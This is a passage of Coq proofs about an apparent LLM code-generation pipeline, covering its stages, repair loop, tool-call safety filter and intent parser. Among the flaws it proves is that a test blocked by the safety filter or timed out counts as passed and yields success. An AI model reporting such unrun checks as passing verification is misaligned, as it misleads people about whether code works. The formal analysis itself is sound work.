Proof. unfold _llm_codegen. quietly. apply generate_files_quiet. Qed.

(** Code generation appends its stage, or raises and appends nothing. *)
Lemma codegen_end (st : pstate) :
  (exists d st',
      _stage_codegen llm project_path st = (Ret tt, st')
      /\ report st' = push_stage (stage_of codegen ok d None) (report st))
  \/ (exists e st',
        _stage_codegen llm project_path st = (Raise e, st')
        /\ report st' = report st).
Proof.
  unfold _stage_codegen. run.
  destruct (g_files (goal st)) as [files|].
  - left. destruct (write_files_keeps files st) as (st1 & E & R & G).
    erewrite bind_ret by exact E. eexists _, _.
    split; [apply append_stage_run|]. cbn. now rewrite R.
  - destruct (backend llm) as [e|].
    + destruct (llm_codegen_quiet e st) as ([names|err] & st1 & E & R).
      * left. erewrite bind_ret by exact E. eexists _, _.
        split; [apply append_stage_run|]. cbn. now rewrite R.
      * right. erewrite bind_raise by exact E. now eexists _, _.
    + left. erewrite bind_ret; [| run; apply ret_run ].
      eexists _, _. split; [apply append_stage_run|]. reflexivity.
Qed.

(** Verification appends its stage, with the verdict it returns, or raises
    and appends nothing. *)
Lemma verify_end (st : pstate) :
  (exists passed d c st',
      _stage_verify project_path st = (Ret passed, st')
      /\ report st' = push_stage (stage_of verify (verdict passed) d c) (report st))
  \/ (exists e,
        _stage_verify project_path st = (Raise e, st)).
Proof.
  unfold _stage_verify. run.
  destruct (Json.json_truthy _).
  - match goal with |- context [run_test_cmd ?v _ _] => destruct v end;
      try (right; eexists; reflexivity).
    left. cbn [run_test_cmd]. run. run. eexists _, _, _, _. split; [apply ret_run|].
    reflexivity.
  - left. run. destruct (existsb _ _).
    + run. run. eexists _, _, _, _. split; [apply ret_run|]. reflexivity.
    + run. exists true. eexists _, _, _. split; [apply ret_run|]. reflexivity.
Qed.

(** With a test command that is a string, or none, verification returns. *)
Lemma verify_returns (st : pstate) :
  g_test_cmd (goal st) = None \/ (exists cmd, g_test_cmd (goal st) = Some (Json.JString cmd)) ->
  exists passed d c st',
    _stage_verify project_path st = (Ret passed, st')
    /\ report st' = push_stage (stage_of verify (verdict passed) d c) (report st).
Proof.
  intros H. destruct (verify_end st) as [Hv | (e & E)]; [exact Hv|]. exfalso.
  revert E. unfold _stage_verify. run.
  destruct H as [-> | (cmd & ->)]; cbn [get Json.json_truthy].
  - run. destruct (existsb _ _).
    + run. run. rewrite ret_run. discriminate.
    + run. rewrite ret_run. discriminate.
  - destruct cmd as [|c cmd]; cbn [Json.json_truthy].
    + run. destruct (existsb _ _).
      * run. run. rewrite ret_run. discriminate.
      * run. rewrite ret_run. discriminate.
    + cbn [run_test_cmd]. run. run. rewrite ret_run. discriminate.
Qed.

Lemma fix_first_keeps (e : LLM W) (error_msg : str) (py_files : list str) (st : pstate) :
  exists b st', keeps (fix_first project_path e error_msg py_files) st b st'.
Proof.
  revert st; induction py_files as [|filename rest IH]; intros st.
  - exists false, st. now unfold keeps.
  - unfold keeps in *. cbn [fix_first]. run.
    destruct (startswith _ (u "ERROR")); [apply IH|].
    run. destruct (truthy _ && _).
    + run. eexists _, _. split; [apply ret_run|]. now split.
    + match goal with
      | |- context [fix_first _ _ _ _ ?s] => destruct (IH s) as (b & st' & E & R & G)
      end.
      exists b, st'. now repeat split.
Qed.

Lemma llm_repair_any (e : LLM W) (error_msg : str) (st : pstate) :
  keeps_or_raises (_llm_repair project_path e error_msg) st.
Proof.
  unfold keeps_or_raises, _llm_repair, keeps. run.
  destruct (listdir project_path (world st)) as [entries|err].
  - left. apply fix_first_keeps.
  - right. now exists (OSError err).
Qed.

(** The pattern repair returns, the report and the goal untouched, or
    raises: at its syntax-error rule, for the unbound [re] or for a line
    number [int] refuses. *)
Lemma pattern_repair_any (error_msg : str) (st : pstate) :
  keeps_or_raises (_pattern_repair error_msg) st.
Proof.
  destruct (str_in (u "syntaxerror") (lower error_msg)) eqn:Hs.
  - unfold keeps_or_raises, _pattern_repair, keeps. cbv zeta. rewrite Hs.
    destruct (str_in (u "importerror") (lower error_msg)
              || str_in (u "modulenotfounderror") (lower error_msg));
      cbn [andb]; [|right; now eexists].
    destruct (matched (search NOFLAG NO_MODULE error_msg)).
    + left. eexists _, _. split; [apply ret_run | now split].
    + destruct (search NOFLAG FILE_LINE error_msg) as [m|].
      * rewrite bind_lift. destruct (int_of_digits _) as [[]|e].
        -- left. eexists _, _. split; [apply ret_run | now split].
        -- right. now eexists.
      * left.
        repeat first
          [ progress run
          | match goal with
            | |- context [match search ?f ?r ?m with _ => _ end] => destruct (search f r m)
            | |- context [if ?b then _ else _] => destruct b
            end ];
        eexists _, _; (split; [apply ret_run | now split]).
  - left. now apply pattern_repair_keeps.
Qed.

Lemma repair_loop_any (remaining attempt : nat) (st : pstate) :
  (exists k d st',
      repair_loop llm project_path remaining attempt st = (Ret (FixedOn k), st')
      /\ report st' = push_stage (stage_of repair ok d None) (report st))
  \/ (exists k st',
        repair_loop llm project_path remaining attempt st = (Ret (GaveUp k), st')
        /\ report st' = report st)
  \/ (exists e st',
        repair_loop llm project_path remaining attempt st = (Raise e, st')
        /\ report st' = report st).
Proof.
  revert attempt st; induction remaining as [|r IH]; intros attempt st.
  - right; left. exists attempt, st. now split.
  - cbn [repair_loop]. run.
    match goal with |- context [run_test_cmd ?v _ _] => destruct v end;
      try (right; right; eexists _, _; split; reflexivity).
    cbn [run_test_cmd]. run.
    destruct (negb (_is_test_failure _)).
    + left. run. eexists _, _, _. split; [apply ret_run|]. reflexivity.
    + match goal with
      | |- context [bind ?c _ ?s] =>
          assert (H : keeps_or_raises c s)
            by (destruct (backend llm); [apply llm_repair_any | apply pattern_repair_any])
      end.
      destruct H as [(b & st2 & E & R & G) | (e & E)].
      * erewrite bind_ret by exact E. destruct b; cbn [negb].
        -- destruct (IH (attempt + 1) st2)
             as [(k & d & st3 & E3 & R3) | [(k & st3 & E3 & R3) | (e & st3 & E3 & R3)]].
           ++ left. exists k, d, st3. split; [exact E3|]. now rewrite R3, R.
           ++ right; left. exists k, st3. split; [exact E3|]. now rewrite R3, R.
           ++ right; right. exists e, st3. split; [exact E3|]. now rewrite R3, R.
        -- right; left. eexists _, st2. split; [apply ret_run|]. now rewrite R.
      * right; right. erewrite bind_raise by exact E. eexists _, _. now split.
Qed.

Lemma repair_any (st : pstate) : repair_end st (_stage_repair llm project_path st).
Proof.
  unfold _stage_repair.
  destruct (repair_loop_any MAX_FIX_ATTEMPTS 0 st)
    as [(k & d & st1 & E & R) | [(k & st1 & E & R) | (e & st1 & E & R)]].
  - erewrite bind_ret by exact E. cbv beta iota. rewrite ret_run. now apply repaired with d.
  - erewrite bind_ret by exact E. cbv beta iota. run. rewrite ret_run.
    eapply given_up. cbn. now rewrite R.
  - erewrite bind_raise by exact E. now apply broken.
Qed.

(** The run from the verdict of the verification on. *)
Lemma after_verify (st st3 : pstate) (passed : bool) (d1 d2 d3 : str) (c : option str) :
  stages (report st3) =
    stages (report st) ++
    [stage_of setup ok d1 None; stage_of codegen ok d2 None;
     stage_of verify (verdict passed) d3 c] ->
  success (report st3) = success (report st) ->
  run_end st
    (bind (if negb passed then _stage_repair llm project_path else ret passed)
       (fun test_passed =>
          if test_passed
          then bind (_stage_commit project_path) (fun _ => set_success)
          else ret tt) st3).
Proof.
  intros S3 Ok3. destruct passed; cbn [negb verdict] in *.
  - erewrite bind_ret by apply ret_run. cbv beta iota.
    destruct (commit_appends st3) as (d4 & st4 & E4 & R4 & G4).
    erewrite bind_ret by exact E4.
    eapply passed_at_once with (d1 := d1) (d2 := d2) (d3 := d3) (d4 := d4) (c := c);
      [|reflexivity].
    cbn. rewrite R4. cbn. rewrite S3. now rewrite <- !app_assoc.
  - pose proof (repair_any st3) as H.
    destruct (_stage_repair llm project_path st3) as [o st4] eqn:E4.
    inversion H as [d4 s4 R4 | d4 s4 R4 | e s4 R4]; subst; clear H.
    + erewrite bind_ret by exact E4. cbv beta iota.
      destruct (commit_appends st4) as (d5 & st5 & E5 & R5 & G5).
      erewrite bind_ret by exact E5.
      eapply passed_after_repair
        with (d1 := d1) (d2 := d2) (d3 := d3) (d4 := d4) (d5 := d5) (c := c);
        [|reflexivity].
      cbn. rewrite R5, R4. cbn. rewrite S3. now rewrite <- !app_assoc.
    + erewrite bind_ret by exact E4. cbv beta iota. rewrite ret_run.
      eapply failed_after_repair with (d1 := d1) (d2 := d2) (d3 := d3) (d4 := d4) (c := c).
      * rewrite R4. cbn. rewrite S3. now rewrite <- !app_assoc.
      * now rewrite R4.
    + erewrite bind_raise by exact E4.
      eapply raised_in_repair with (d1 := d1) (d2 := d2) (d3 := d3) (c := c).
      * now rewrite R4.
      * now rewrite R4.
Qed.

Lemma stages_in_order_any (st : pstate) :
  run_end st (stages_in_order llm project_path st)
  \/ run_end_early st (stages_in_order llm project_path st).
Proof.
  unfold stages_in_order.
  destruct (setup_appends st) as (d1 & st1 & E1 & R1 & G1).
  erewrite bind_ret by exact E1.
  destruct (codegen_end st1) as [(d2 & st2 & E2 & R2) | (e & st2 & E2 & R2)].
  - erewrite bind_ret by exact E2.
    destruct (verify_end st2) as [(passed & d3 & c & st3 & E3 & R3) | (e & E3)].
    + left. erewrite bind_ret by exact E3.
      apply after_verify with (d1 := d1) (d2 := d2) (d3 := d3) (c := c).
      * rewrite R3, R2, R1. cbn. now rewrite <- !app_assoc.
      * now rewrite R3, R2, R1.
    + right. erewrite bind_raise by exact E3.
      eapply raised_in_verify with (d1 := d1) (d2 := d2).
      * rewrite R2, R1. cbn. now rewrite <- !app_assoc.
      * now rewrite R2, R1.
  - right. erewrite bind_raise by exact E2.
    eapply raised_in_codegen with (d1 := d1).
    + now rewrite R2, R1.
    + now rewrite R2, R1.
Qed.

(** A goal with its own files, or no backend, and a test command that is a
    string, or none: the check runs. *)
Lemma stages_in_order_typed (st : pstate) :
  g_files (goal st) <> None \/ backend llm = None ->
  g_test_cmd (goal st) = None \/ (exists cmd, g_test_cmd (goal st) = Some (Json.JString cmd)) ->
  run_end st (stages_in_order llm project_path st).
Proof.
  intros Hgen Hcmd. unfold stages_in_order.
  destruct (setup_appends st) as (d1 & st1 & E1 & R1 & G1).
  erewrite bind_ret by exact E1.
  rewrite <- G1 in Hgen, Hcmd.
  destruct (codegen_appends st1 Hgen) as (d2 & st2 & E2 & R2 & G2).
  erewrite bind_ret by exact E2.
  rewrite <- G2 in Hcmd.
  destruct (verify_returns st2 Hcmd) as (passed & d3 & c & st3 & E3 & R3).
  erewrite bind_ret by exact E3.
  apply after_verify with (d1 := d1) (d2 := d2) (d3 := d3) (c := c).
  - rewrite R3, R2, R1. cbn. now rewrite <- !app_assoc.
  - now rewrite R3, R2, R1.
Qed.

End WithSystem.

(** C2.  For a goal that carries literal files and a test command whose run
    prints exactly OK, [execute_goal] returns success with a report of exactly
    four stages, setup, codegen, verify, commit in that order, each with status
    ok, and no repair stage. *)
Theorem passing_goal_report (U : UnicodeDB) (W : Type) (Sys : System W)
    (llm : option (LLM W)) (g : Goal) (project_path : str) (w : W)
    (files : list (str * str)) (cmd : str) :
  g_files g = Some files ->
  g_test_cmd g = Some (Json.JString cmd) -> cmd <> [] ->
  (forall w', fst (run_command cmd (Some project_path) 60 w') = u "OK") ->
  let result := fst (execute_goal llm g project_path w) in
  fst result = true
  /\ success (snd result) = true
  /\ length (stages (snd result)) = 4
  /\ map name (stages (snd result)) = [setup; codegen; verify; commit]
  /\ (forall s, In s (stages (snd result)) -> status s = ok)
  /\ count_stage repair (snd result) = 0.
Proof.
  intros Hf Hc Hne Hok result. subst result. unfold execute_goal. cbv zeta.
  match goal with
  | |- context [stages_in_order _ _ ?s] =>
      destruct (@pipeline_passes U W Sys llm project_path s cmd)
        as (d1 & d2 & d3 & d4 & st' & E & S & Ok)
  end.
  - left. cbn. now rewrite Hf.
  - exact Hc.
  - exact Hne.
  - intros w'. now rewrite Hok.
  - rewrite E. cbn [fst snd]. cbn in S. unfold count_stage. rewrite S, Ok.
    repeat split.
    intros s [<- | [<- | [<- | [<- | []]]]]; reflexivity.
Qed.

(** A goal whose test command prints OK, in the sample world. *)
Lemma passing_goal_report_witness :
  fst (fst (execute_goal (U := Sample.latin_only) (Sys := Sample.printing (fun _ => u "OK"))
              None (demo_goal "python3 main.py") demo_path Sample.empty_world)) = true.
Proof.
  apply (@passing_goal_report Sample.latin_only Sample.world
           (Sample.printing (fun _ => u "OK")) None (demo_goal "python3 main.py")
           demo_path Sample.empty_world [(u "main.py", u "print(1)" ++ nl)]
           (u "python3 main.py")).
  - reflexivity.
  - reflexivity.
  - discriminate.
  - intros w'. reflexivity.
Defined.




(** C4 fails on the code.  On the output of a syntax error, which no
    earlier rule of the table matches, [_pattern_repair] raises
    [UnboundLocalError] for the name [re] instead of returning; in a pipeline
    run the exception ends the run with an error stage and no repair stage. *)
Theorem pattern_repair_syntax_error_raises (U : UnicodeDB) (W : Type) (Sys : System W)
    (st : @pstate W) :
  str_in (u "syntaxerror") (lower syntax_error_output) = true
  /\ str_in (u "importerror") (lower syntax_error_output) = false
  /\ str_in (u "modulenotfounderror") (lower syntax_error_output) = false
  /\ _pattern_repair syntax_error_output st = (Raise (UnboundLocalError (u "re")), st)
  /\ let run := execute_goal (U := Sample.latin_only)
                  (Sys := Sample.printing (fun _ => syntax_error_output)) None
                  (demo_goal "python3 main.py") demo_path Sample.empty_world in
     fst (fst run) = false
     /\ map name (stages (snd (fst run))) = [setup; codegen; verify; error]
     /\ count_stage repair (snd (fst run)) = 0.
Proof.
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|]. split.
  - apply pattern_repair_raises. reflexivity.
  - cbv zeta. split; [|split]; vm_compute; reflexivity.
Qed.

(** X1.  Whatever the goal, the backend and the world, [execute_goal]
    returns, the flag it returns is the report's, and the report's stages are
    of one of six forms.  Once the check has run: setup, codegen, verify,
    commit, all ok, with success; or a failed verify followed by a repair that
    is ok and a commit, with success; or a failed verify and a failed repair,
    without success; or a failed verify and an error stage, without success
    (an exception in the repair).  Before the check has run, both without
    success: setup and an error stage (an exception in the code generation, on
    a plan of the backend that is not of the expected form), or setup, codegen
    and an error stage (an exception in the verification, on a test command
    that is no string).  For a goal that has its own files or no available
    backend, and whose test command is a string or absent, the check runs: the
    form is one of the first four. *)
Theorem execute_goal_ends (U : UnicodeDB) (W : Type) (Sys : System W)
    (llm : option (LLM W)) (g : Goal) (project_path : str) (w : W) :
  let result := fst (execute_goal llm g project_path w) in
  let shape := map (fun s => (name s, status s)) (stages (snd result)) in
  let checked :=
    (shape = [(setup, ok); (codegen, ok); (verify, ok); (commit, ok)]
     /\ fst result = true)
    \/ (shape = [(setup, ok); (codegen, ok); (verify, fail); (repair, ok); (commit, ok)]
        /\ fst result = true)
    \/ (shape = [(setup, ok); (codegen, ok); (verify, fail); (repair, fail)]
        /\ fst result = false)
    \/ (shape = [(setup, ok); (codegen, ok); (verify, fail); (error, fail)]
        /\ fst result = false) in
  fst result = success (snd result)
  /\ (checked
      \/ (shape = [(setup, ok); (error, fail)] /\ fst result = false)
      \/ (shape = [(setup, ok); (codegen, ok); (error, fail)] /\ fst result = false))
  /\ (g_files g <> None \/ backend llm = None ->
      g_test_cmd g = None \/ (exists cmd, g_test_cmd g = Some (Json.JString cmd)) ->
      checked).
Proof.
  cbv zeta.
  assert (Hchecked : forall o st',
    run_end {| world := w;
               report := {| r_goal := get (g_description g) (u "unknown");
                            r_path := project_path; stages := []; success := false |};
               goal := g |} (o, st') ->
    let st := match o with
              | Ret _ => st'
              | Raise e =>
                  {| world := world st';
                     report := push_stage {| name := error; status := fail;
                                             detail := str_exn e; command := None |}
                                 (report st');
                     goal := goal st' |}
              end in
    let shape := map (fun s => (name s, status s)) (stages (report st)) in
    (shape = [(setup, ok); (codegen, ok); (verify, ok); (commit, ok)]
     /\ success (report st) = true)
    \/ (shape = [(setup, ok); (codegen, ok); (verify, fail); (repair, ok); (commit, ok)]
        /\ success (report st) = true)
    \/ (shape = [(setup, ok); (codegen, ok); (verify, fail); (repair, fail)]
        /\ success (report st) = false)
    \/ (shape = [(setup, ok); (codegen, ok); (verify, fail); (error, fail)]
        /\ success (report st) = false)).
  { intros o st' H.
    inversion H as [d1 d2 d3 d4 c s' S Ok | d1 d2 d3 d4 d5 c s' S Ok
                   | d1 d2 d3 d4 c s' S Ok | d1 d2 d3 c e s' S Ok];
      subst; cbn [fst snd report world goal] in *; cbn in S, Ok; cbv zeta.
    - left. now rewrite S, Ok.
    - right; left. now rewrite S, Ok.
    - right; right; left. now rewrite S, Ok.
    - right; right; right. unfold push_stage. cbn. now rewrite S, Ok. }
  unfold execute_goal. cbv zeta.
  match goal with
  | |- context [stages_in_order _ _ ?s] =>
      pose proof (@stages_in_order_any U W Sys llm project_path s) as Hany;
      pose proof (@stages_in_order_typed U W Sys llm project_path s) as Htyped;
      destruct (stages_in_order llm project_path s) as [o st'] eqn:E
  end.
  cbn [fst snd goal] in *.
  split; [reflexivity|]. split.
  - destruct Hany as [H | H].
    + left. exact (Hchecked o st' H).
    + right.
      inversion H as [d1 e s' S Ok | d1 d2 e s' S Ok];
        subst; cbn [fst snd report world goal] in *; cbn in S, Ok.
      * left. unfold push_stage. cbn. now rewrite S, Ok.
      * right. unfold push_stage. cbn. now rewrite S, Ok.
  - intros Hgen Hcmd. exact (Hchecked o st' (Htyped Hgen Hcmd)).
Qed.

(** A goal with its own file and a command for its check. *)
Lemma execute_goal_ends_witness :
  let result := fst (execute_goal (U := Sample.latin_only)
                       (Sys := Sample.printing (fun _ => u "OK")) None
                       (demo_goal "python3 main.py") demo_path Sample.empty_world) in
  let shape := map (fun s => (name s, status s)) (stages (snd result)) in
  (shape = [(setup, ok); (codegen, ok); (verify, ok); (commit, ok)]
   /\ fst result = true)
  \/ (shape = [(setup, ok); (codegen, ok); (verify, fail); (repair, ok); (commit, ok)]
      /\ fst result = true)
  \/ (shape = [(setup, ok); (codegen, ok); (verify, fail); (repair, fail)]
      /\ fst result = false)
  \/ (shape = [(setup, ok); (codegen, ok); (verify, fail); (error, fail)]
      /\ fst result = false).
Proof.
  apply (proj2 (proj2 (@execute_goal_ends Sample.latin_only Sample.world
    (Sample.printing (fun _ => u "OK")) None (demo_goal "python3 main.py") demo_path
    Sample.empty_world))).
  - left. discriminate.
  - right. exists (u "python3 main.py"). reflexivity.
Defined.

(** The two early endings happen: a plan whose files are a list ends the
    run in the code generation, a plan whose test command is a number ends it
    in the verification. *)
Example plans_that_end_early :
  let run plan :=
    fst (execute_goal (U := Sample.latin_only) (Sys := Sample.printing (fun _ => u "OK"))
           (Some (Sample.planning plan)) Sample.bare_goal demo_path Sample.empty_world) in
  let shape result := map (fun s => (name s, status s)) (stages (snd result)) in
  let listed := Json.JObject [(u "files", Json.JArray [Json.JString (u "a.py")])] in
  let numbered := Json.JObject [(u "files", Json.JObject []);
                                (u "test_cmd", Json.JInt 1)] in
  (fst (run listed) = false
   /\ shape (run listed) = [(setup, ok); (error, fail)]
   /\ map detail (skipn 1 (stages (snd (run listed))))
      = [u "'list' object has no attribute 'items'"])
  /\ (fst (run numbered) = false
      /\ shape (run numbered) = [(setup, ok); (codegen, ok); (error, fail)]
      /\ map detail (skipn 2 (stages (snd (run numbered))))
         = [u "'int' object has no attribute 'lower'"]).
Proof. cbv zeta. repeat split; vm_compute; reflexivity. Qed.

(** X6.  A check that is not run counts as passed.  When the goal's test
    command is blocked by the safety filter of [run_command], or its run times
    out, the output is an ERROR text that holds no failure indicator, so the
    classifier does not call it a failure: verify is ok and the goal succeeds
    with the stages setup, codegen, verify, commit. *)
Theorem unrun_check_passes (U : UnicodeDB) (W : Type) (Sys : System W)
    (llm : option (LLM W)) (g : Goal) (project_path : str) (w : W) (cmd : str) :
  g_files g <> None \/ backend llm = None ->
  g_test_cmd g = Some (Json.JString cmd) -> cmd <> [] ->
  _check_safety cmd = false
  \/ (forall w', fst (subprocess_run cmd (Some project_path) 60 w') = TimeoutExpired) ->
  let result := fst (execute_goal llm g project_path w) in
  fst result = true
  /\ map (fun s => (name s, status s)) (stages (snd result))
     = [(setup, ok); (codegen, ok); (verify, ok); (commit, ok)]
  /\ forall w',
       let out := fst (run_command cmd (Some project_path) 60 w') in
       (out = u "ERROR: Command blocked by safety filter."
        \/ out = u "ERROR: Command timed out after 60s")
       /\ _is_test_failure (Some out) = false.
Proof.
  intros Hgen Hc Hne Hun result. subst result.
  assert (Hout : forall w',
             let out := fst (run_command cmd (Some project_path) 60 w') in
             (out = u "ERROR: Command blocked by safety filter."
              \/ out = u "ERROR: Command timed out after 60s")
             /\ _is_test_failure (Some out) = false).
  { intros w'. cbv zeta. unfold run_command.
    destruct (_check_safety cmd) eqn:Hs; cbn [negb].
    - destruct Hun as [Hun | Hun]; [discriminate|]. specialize (Hun w').
      destruct (subprocess_run cmd (Some project_path) 60 w') as [r w1].
      cbn [fst] in Hun. subst r. cbn [fst]. split; [right|]; reflexivity.
    - cbn [fst]. split; [left|]; reflexivity. }
  split; [|split; [|exact Hout]].
  - unfold execute_goal. cbv zeta.
    match goal with
    | |- context [stages_in_order _ _ ?s] =>
        destruct (@pipeline_passes U W Sys llm project_path s cmd Hgen Hc Hne)
          as (d1 & d2 & d3 & d4 & st' & E & S & Ok)
    end.
    + intros w'. apply Hout.
    + now rewrite E.
  - unfold execute_goal. cbv zeta.
    match goal with
    | |- context [stages_in_order _ _ ?s] =>
        destruct (@pipeline_passes U W Sys llm project_path s cmd Hgen Hc Hne)
          as (d1 & d2 & d3 & d4 & st' & E & S & Ok)
    end.
    + intros w'. apply Hout.
    + rewrite E. cbn [fst snd]. cbn in S. now rewrite S.
Qed.

(** A test file named after a reboot: its run is blocked, the goal passes. *)
Lemma unrun_check_passes_witness :
  fst (fst (execute_goal (U := Sample.latin_only)
              (Sys := Sample.printing (fun _ => name_error_output))
              None (demo_goal "python3 test_reboot.py") demo_path Sample.empty_world))
  = true.
Proof.
  apply (@unrun_check_passes Sample.latin_only Sample.world
           (Sample.printing (fun _ => name_error_output)) None
           (demo_goal "python3 test_reboot.py") demo_path Sample.empty_world
           (u "python3 test_reboot.py")).
  - right. reflexivity.
  - reflexivity.
  - discriminate.
  - left. vm_compute. reflexivity.
Defined.

(** ** Tool calls *)

Section ToolCalls.
Context {U : UnicodeDB} {W : Type} {Reg : Registry W}.

Lemma execute_tool_calls_tools (calls : list Call) (w w' : W) (answers : list Answer) :
  execute_tool_calls calls w = (Ret answers, w') ->
  map answer_tool answers = map c_tool calls.
Proof.
  revert w w' answers; induction calls as [|call rest IH]; intros w w' answers.
  - intros [= <- _]. reflexivity.
  - cbn [execute_tool_calls]. cbv zeta.
    assert (Happ : forall a w1,
               answer_tool a = c_tool call ->
               match execute_tool_calls rest w1 with
               | (Ret results, w'') => (Ret (a :: results), w'')
               | (Raise e, w'') => (Raise e, w'')
               end = (Ret answers, w') ->
               map answer_tool answers = map c_tool (call :: rest)).
    { intros a w1 Ha. destruct (execute_tool_calls rest w1) as [[rs|e] w2] eqn:E;
        [|discriminate].
      intros [= <- <-]. cbn. rewrite Ha. f_equal. exact (IH _ _ _ E). }
    destruct (c_tool call) as [name|] eqn:Ht; [|now apply Happ].
    destruct (negb (existsb (str_eqb name) TOOL_NAMES)); [now apply Happ|].
    assert (Hcall : match invoke name (get (c_args call) (Json.JObject [])) w with
                    | (inl result, w1) =>
                        match execute_tool_calls rest w1 with
                        | (Ret results, w'') =>
                            (Ret (Result (Some name) (slice_to 500 result) :: results), w'')
                        | (Raise e, w'') => (Raise e, w'')
                        end
                    | (inr e, w1) =>
                        match execute_tool_calls rest w1 with
                        | (Ret results, w'') => (Ret (Error (Some name) e :: results), w'')
                        | (Raise e0, w'') => (Raise e0, w'')
                        end
                    end = (Ret answers, w') ->
                    map answer_tool answers = map c_tool (call :: rest)).
    { destruct (invoke name _ w) as [[r|e] w1]; now apply Happ. }
    destruct (str_eqb name (u "run")); [|exact Hcall].
    destruct (command_of _) as [cmd|e]; [|discriminate].
    destruct (negb (Enforce.is_safe_command cmd)); [now apply Happ | exact Hcall].
Qed.

Lemma execute_tool_calls_refused (calls : list Call) (w : W) :
  Forall (fun call => refusal call <> None) calls ->
  exists answers,
    execute_tool_calls calls w = (Ret answers, w)
    /\ map Some answers = map refusal calls.
Proof.
  induction 1 as [|call rest Hc Hrest IH].
  - now exists [].
  - destruct IH as (answers & E & Hm).
    cbn [execute_tool_calls]. cbv zeta. unfold refusal in Hc |- *. cbn [map].
    destruct (c_tool call) as [name|].
    + destruct (negb (existsb (str_eqb name) TOOL_NAMES)).
      * rewrite E. eexists. split; [reflexivity|]. cbn. now rewrite Hm.
      * destruct (str_eqb name (u "run")); [|now elim Hc].
        destruct (command_of _) as [cmd|e]; [|now elim Hc].
        destruct (Enforce.is_safe_command cmd); [now elim Hc|]. cbn [negb].
        rewrite E. eexists. split; [reflexivity|]. cbn. now rewrite Hm.
    + rewrite E. eexists. split; [reflexivity|]. cbn. now rewrite Hm.
Qed.

End ToolCalls.



End ExecutorFacts.

(* ================================================================== *)
(** * The command interpreter *)
(* ================================================================== *)

Module ParserFacts.
Import PyStr Re Py Json OS Parser.

Section WithSystem.
Context {U : UnicodeDB}.

(** The inner loop returns the match of the first pattern that matches. *)
Lemma first_pattern_some (ps : list regex) (text : str) (m : mstate) :
  first_pattern ps text = Some m ->
  exists pre p post,
    ps = pre ++ p :: post
    /\ match_ IGNORE p text = Some m
    /\ forall q, In q pre -> match_ IGNORE q text = None.
Proof.
  induction ps as [|p ps IH]; simpl; [discriminate|].
  destruct (match_ IGNORE p text) as [m'|] eqn:E.
  - intros [= ->]. exists [], p, ps. repeat split; [exact E | intros q []].
  - intros H. destruct (IH H) as (pre & q & post & -> & Hq & Hpre).
    exists (p :: pre), q, post. repeat split; [exact Hq|].
    intros r [<- | Hr]; [exact E | now apply Hpre].
Qed.

Lemma first_pattern_none (ps : list regex) (text : str) :
  first_pattern ps text = None ->
  forall q, In q ps -> match_ IGNORE q text = None.
Proof.
  induction ps as [|p ps IH]; simpl; [intros _ q []|].
  destruct (match_ IGNORE p text) eqn:E; [discriminate|].
  intros H q [<- | Hq]; [exact E | now apply IH].
Qed.

(** The outer loop returns the intent of the first entry one of whose
    patterns matches. *)
Lemma first_entry_some (entries : list entry) (text : str) (i : str) (m : mstate) :
  first_entry entries text = Some (i, m) ->
  exists pre e post,
    entries = pre ++ e :: post
    /\ intent_of e = i
    /\ first_pattern (patterns e) text = Some m
    /\ forall e', In e' pre -> forall q, In q (patterns e') -> match_ IGNORE q text = None.
Proof.
  induction entries as [|e es IH]; simpl; [discriminate|].
  destruct (first_pattern (patterns e) text) as [m'|] eqn:E.
  - intros [= <- ->]. exists [], e, es. repeat split; [exact E | intros e' []].
  - intros H. destruct (IH H) as (pre & e0 & post & -> & Hi & Hm & Hpre).
    exists (e :: pre), e0, post. repeat split; [exact Hi | exact Hm |].
    intros e' [<- | He']; [now apply first_pattern_none | now apply Hpre].
Qed.

End WithSystem.

(** C6.  [parse] of create project foo gives a plan with intent
    create_project, name foo and exactly four actions, mkdir, git_init, write
    of the README, git_commit, in that order.  The entry for tool creation,
    later in the catalog, matches this input too; the project-creation entry
    wins because [parse] takes the first pattern of the first entry that
    matches: every pattern of every entry before the chosen one, and every
    pattern before the chosen one in its entry, fails on the text. *)
Theorem parse_create_project_foo (U : UnicodeDB) (J : JsonLib) (W : Type) (Sys : System W)
    (project_root : str) (w : W) :
  let text := u "create project foo" in
  let path := project_root ++ u "/foo" in
  (exists p,
      parse project_root text w = Ret (Some p)
      /\ intent p = u "create_project"
      /\ p_name p = Some (u "foo")
      /\ length (actions p) = 4
      /\ actions p =
         [ act "mkdir" [arg "path" path];
           act "git_init" [arg "path" path];
           act "write" [arg "path" (path ++ u "/README.md");
                        arg "content" (u "# foo" ++ nl ++ nl ++ u "Auto-generated project." ++ nl)];
           act "git_commit" [arg "path" path; arg "message" (u "init: foo")] ])
  /\ (exists e m,
        nth_error INTENT_PATTERNS 2 = Some e
        /\ intent_of e = u "create_tool"
        /\ first_pattern (patterns e) text = Some m)
  /\ (forall (t : str) (i : str) (m : mstate),
        first_entry INTENT_PATTERNS t = Some (i, m) ->
        exists pre e post,
          INTENT_PATTERNS = pre ++ e :: post
          /\ intent_of e = i
          /\ (forall e', In e' pre -> forall q, In q (patterns e') ->
                         match_ IGNORE q t = None)
          /\ exists before p after,
               patterns e = before ++ p :: after
               /\ match_ IGNORE p t = Some m
               /\ forall q, In q before -> match_ IGNORE q t = None).
Proof.
  intros text path. split; [|split].
  - eexists. split; [vm_compute; reflexivity|].
    repeat split.
  - eexists _, _. split; [reflexivity|]. split; [reflexivity|].
    vm_compute. reflexivity.
  - intros t i m H.
    destruct (first_entry_some _ _ H) as (pre & e & post & He & Hi & Hm & Hpre).
    destruct (first_pattern_some _ _ Hm) as (before & p & after & Hp & Hmatch & Hbefore).
    exists pre, e, post. repeat split; try assumption.
    exists before, p, after. now repeat split.
Qed.

(** First match wins, at the input create project foo: the chosen entry is
    the first of the catalog. *)
Lemma parse_create_project_foo_witness :
  exists pre e post,
    INTENT_PATTERNS = pre ++ e :: post
    /\ intent_of e = u "create_project"
    /\ (forall e', In e' pre -> forall q, In q (patterns e') ->
                   match_ (U := Sample.latin_only) IGNORE q (u "create project foo") = None)
    /\ exists before p after,
         patterns e = before ++ p :: after
         /\ match_ (U := Sample.latin_only) IGNORE p (u "create project foo")
            = Some {| pos := 18; rest := []; groups := [(1, u "foo")];
                      lastindex := Some 1 |}
         /\ forall q, In q before ->
                      match_ (U := Sample.latin_only) IGNORE q (u "create project foo") = None.
Proof.
  apply (proj2 (proj2 (@parse_create_project_foo Sample.latin_only Sample.tiny_json
                         Sample.world (Sample.printing (fun _ => [])) (u "/projects")
                         Sample.empty_world))).
  vm_compute. reflexivity.
